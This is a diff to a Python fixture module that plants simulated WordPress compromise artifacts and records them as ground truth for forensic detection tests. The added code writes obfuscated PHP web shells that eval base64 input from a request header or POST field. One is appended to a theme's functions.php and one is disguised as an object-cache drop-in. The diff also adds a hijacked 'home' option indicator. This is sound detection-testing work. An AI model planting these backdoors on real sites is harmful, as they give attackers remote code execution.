@@ -1,7 +1,7 @@
 """The break-in: what the intruder left on the old server (files only; the database
 part — unknown administrators, a role of its own, open registration, <script>s in a
-post, a widget and a custom field, a rogue cron event, an active backdoor plugin — is
-populate.php's phase 3).
+post, a widget and a custom field, a rogue cron event, an active backdoor plugin, the
+news site's ``home`` pointed elsewhere — is populate.php's phase 3).
 
 Each plant returns an :class:`Indicator` for the ground truth: where it is, what kind,
 and a distinctive ``evidence`` string (bytes found in the file) so a test can prove the
@@ -345,6 +345,26 @@ def plant(root: Path, seed: str, *, www: tuple[int, int],
                            "@eval(gzinflate(base64_decode(",
                            {"site": BLOG.key, "active_plugins": BLOG.rogue_plugin}))
 
+    # 15. A backdoor appended to the functions.php of the news site's active theme (its
+    # own copy in wp-content, no package's): the rest of the theme is no theme to run.
+    news_theme = f"{NEWS.content_dir}/themes/twentytwentyone/functions.php"
+    _append(root, news_theme, ("\n" + _obfuscated_php(
+        "if(isset($_SERVER['HTTP_X_WPT'])){eval(base64_decode($_SERVER['HTTP_X_WPT']));}")
+        + "\n").encode(), "2024-03-12 01:04:00")
+    found.append(Indicator("news-theme-backdoor", "php_backdoor", news_theme,
+                           "backdoor appended to the active theme's functions.php (the "
+                           "site's own copy in wp-content)", "@eval(gzinflate(base64_decode(",
+                           {"site": NEWS.key, "active_theme": "twentytwentyone"}))
+
+    # 16. A drop-in WordPress loads before everything else, posing as an object cache.
+    dropin = f"{NEWS.content_dir}/object-cache.php"
+    _put(root, dropin, "<?php\n/*\nPlugin Name: Redis Object Cache Drop-In\n*/\n"
+         + _obfuscated_php("if(isset($_POST['oc'])){eval(base64_decode($_POST['oc']));}")
+         + "\n", uid=www[0], gid=www[1], when="2024-03-12 01:05:00")
+    found.append(Indicator("dropin-object-cache", "dropin", dropin,
+                           "object-cache.php drop-in that is an obfuscated backdoor",
+                           "@eval(gzinflate(base64_decode(", {"site": NEWS.key}))
+
     # Database-side indicators (planted by populate.php phase 3).
     found.append(Indicator("wp-rogue-cron", "wp_cron", "",
                            "WP-cron event calling a foreign URL every hour (cron option)",
@@ -374,6 +394,9 @@ def plant(root: Path, seed: str, *, www: tuple[int, int],
     found.append(Indicator("wp-widget-script", "wp_option", "",
                            "<script> appended to a text widget (serialized widget_text)",
                            BLOG.widget_script, {"site": BLOG.key, "option": "widget_text"}))
+    found.append(Indicator("wp-foreign-home", "wp_option", "",
+                           "option home points to the intruder's host", NEWS.foreign_home,
+                           {"site": NEWS.key, "option": "home", "clean": NEWS.url}))
     script = BLOG.meta_script[2][BLOG.meta_script[2].index("<script"):]
     found.append(Indicator("wp-meta-script", "wp_post_script", "",
                            "<script> in a post's custom field", script,
